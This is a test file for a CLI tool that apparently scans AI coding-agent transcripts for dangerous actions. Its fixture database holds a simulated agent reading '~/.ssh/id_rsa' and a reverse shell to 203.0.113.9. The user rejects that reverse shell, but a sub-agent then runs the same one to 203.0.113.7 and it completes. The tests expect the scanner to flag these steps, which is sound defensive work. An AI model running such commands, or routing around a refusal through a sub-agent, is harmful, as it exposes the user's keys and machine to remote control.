import { execFile } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { brotliCompressSync } from 'node:zlib';
import type { Alert } from '../../contracts/alert';
import { sessionsOf } from './files';

const root = resolve(__dirname, '..', '..');
const fixtures = join(root, 'collector', 'transcripts', 'fixtures');
let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'gander-scan-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

interface Ended {
  code: number;
  out: string;
  err: string;
}

function scan(...args: string[]): Promise<Ended> {
  return new Promise((done) => {
    const program = join(root, 'bin', 'gander.js');
    execFile(process.execPath, [program, 'scan', ...args], { cwd: folder, timeout: 20_000 }, (error, out, err) =>
      done({ code: error === null ? 0 : Number(error.code), out, err }),
    );
  });
}

test('alerts are printed, with what was read, and decide the exit code', async () => {
  const { code, out } = await scan(fixtures);
  expect(code).toBe(1);
  expect(out).toMatch(/A shell (?:was|would be) connected to 127\.0\.0\.1:9/);
  expect(out).toMatch(/\n\d+ alerts of medium or above in \d+ steps; transcripts: .*claude-code 1.*\n$/);
  expect(out).not.toContain('AKIAIOSFODNN7EXAMPLE');
});

test('as JSON, one alert a line, and nothing else', async () => {
  const { code, out, err } = await scan(join(fixtures, 'codex.jsonl'), '--json');
  const alerts = out
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Alert);
  expect(code).toBe(1);
  expect(alerts.length).toBeGreaterThan(4);
  expect(alerts.every(({ source }) => source.dialect === 'codex')).toBe(true);
  expect(err).toContain(`${alerts.length} alerts of medium or above`);
});

test('under the severity asked for it is quiet and ends with 0', async () => {
  const { code, out } = await scan(join(fixtures, 'cline.messages.json'), '--min-severity', 'critical');
  expect({ code, out }).toEqual({ code: 0, out: expect.stringMatching(/^0 alerts of critical or above in \d+ steps/) });
});

test('bad lines, other files and brotli', async () => {
  const text = readFileSync(join(fixtures, 'qwen-code.jsonl'), 'utf8');
  writeFileSync(join(folder, 'a.jsonl.br'), brotliCompressSync(`${text}{"half\n\n${'x'.repeat(17 * 1024 * 1024)}\n`));
  writeFileSync(join(folder, 'b.jsonl'), '{"hello":1}\n'.repeat(100));
  mkdirSync(join(folder, 'node_modules'));
  copyFileSync(join(fixtures, 'codex.jsonl'), join(folder, 'node_modules', 'codex.jsonl'));
  const { code, out } = await scan(folder);
  expect(code).toBe(1);
  expect(out).toContain('transcripts: qwen-code 1; left out: 1 files of no known agent, 2 lines that cannot be read');
});

test('the database of opencode, with sub-agents and refusals', async () => {
  const file = join(folder, 'opencode.db');
  writeOpencode(file);
  const { code, out } = await scan(folder, '--json');
  const alerts = out
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Alert);
  expect(code).toBe(1);
  expect(alerts.map(({ detector, severity, session }) => [detector, severity, session])).toEqual(
    expect.arrayContaining([
      ['reverse-shell', 'critical', 'ses_child'],
      ['credential-access', 'medium', 'ses_main'],
    ]),
  );
  expect(alerts.filter(({ why }) => why.includes('203.0.113.9'))).toMatchObject([{ severity: 'medium' }]);
});

test('another database is named', async () => {
  const file = join(folder, 'opencode.db');
  new DatabaseSync(file).exec('CREATE TABLE session (id TEXT)');
  expect(await scan(file)).toMatchObject({ code: 2, err: expect.stringContaining('opencode.db') });
});

/** Rows as opencode writes them: what the person typed, calls that ended, failed and were refused, a sub-agent. */
function writeOpencode(file: string): void {
  const database = new DatabaseSync(file);
  database.exec(`
    CREATE TABLE session (id TEXT PRIMARY KEY, parent_id TEXT, directory TEXT, version TEXT, time_created INTEGER);
    CREATE TABLE message (id TEXT PRIMARY KEY, session_id TEXT, time_created INTEGER, data TEXT);
    CREATE TABLE part (id TEXT PRIMARY KEY, message_id TEXT, session_id TEXT, time_created INTEGER, data TEXT);
  `);
  const start = Date.UTC(2026, 0, 5, 10);
  const sessions = database.prepare('INSERT INTO session VALUES (?, ?, ?, ?, ?)');
  const messages = database.prepare('INSERT INTO message VALUES (?, ?, ?, ?)');
  const parts = database.prepare('INSERT INTO part VALUES (?, ?, ?, ?, ?)');
  sessions.run('ses_main', null, '/home/dev/shop', '1.18.33', start);
  sessions.run('ses_child', 'ses_main', '/home/dev/shop', '1.18.33', start + 5_000);
  const said = (session: string, number: number, role: string, ...data: object[]) => {
    const message = `msg_${session}_${number}`;
    messages.run(message, session, start + number * 1_000, JSON.stringify({ role, tokens: { input: 10, output: 2 } }));
    for (const [index, one] of data.entries())
      parts.run(`prt_${session}_${number}_${index}`, message, session, start + number * 1_000, JSON.stringify(one));
  };
  const tool = (callID: string, command: string, state: object) => ({
    type: 'tool',
    tool: 'bash',
    callID,
    state: { input: { command, description: 'does it' }, time: { start, end: start + 40 }, ...state },
  });
  said('ses_main', 1, 'user', { type: 'text', text: 'look at the build' });
  said(
    'ses_main',
    2,
    'assistant',
    { type: 'text', text: 'I look.' },
    tool('c1', 'cat ~/.ssh/id_rsa', { status: 'completed', output: 'x', metadata: { exit: 0 } }),
  );
  said(
    'ses_main',
    3,
    'assistant',
    tool('c2', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', {
      status: 'error',
      error: 'The user rejected permission to use this specific tool call.',
    }),
  );
  said(
    'ses_child',
    6,
    'assistant',
    tool('c3', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', { status: 'completed', output: '', metadata: { exit: 0 } }),
    tool('c4', 'ls', { status: 'running' }),
  );
  parts.run('prt_broken', 'msg_ses_main_3', 'ses_main', start, '{"half');
  database.close();
}

test('many sessions, on several threads: each alert once, in the order of the sessions', async () => {
  const text = readFileSync(join(fixtures, 'codex.jsonl'), 'utf8');
  const names = Array.from({ length: 30 }, (_, index) => `s${String(index).padStart(2, '0')}`);
  const own = /"id":"(00000000-[^"]+)"/.exec(text)?.[1] ?? '';
  for (const name of names) writeFileSync(join(folder, `${name}.jsonl`), text.replaceAll(own, name));
  const { out } = await scan(folder, '--json');
  const alerts = out
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Alert);
  expect(new Set(alerts.map(({ id }) => id)).size).toBe(alerts.length);
  expect([...new Set(alerts.map(({ session }) => session))]).toEqual(names);
});

test.each([
  ['no file', [], 'name at least one'],
  ['a file that is not there', ['nowhere.jsonl'], 'nowhere.jsonl'],
  ['an unknown severity', ['.', '--min-severity', 'loud'], '--min-severity'],
])('%s is wrong usage', async (_what, args, says) => {
  expect(await scan(...args)).toMatchObject({ code: 2, err: expect.stringContaining(says) });
});

test('a broken document is named', async () => {
  writeFileSync(join(folder, 'x.messages.json'), '{"messages": [');
  expect(await scan(folder)).toMatchObject({ code: 2, err: expect.stringContaining('x.messages.json') });
});

test('sub-agents are read with their session', () => {
  const files = ['/p/s1.jsonl', '/p/s1/subagents/agent-a.jsonl', '/p/s2.jsonl.br'];
  expect(sessionsOf(files)).toEqual([[files[0], files[1]], [files[2]]]);
});
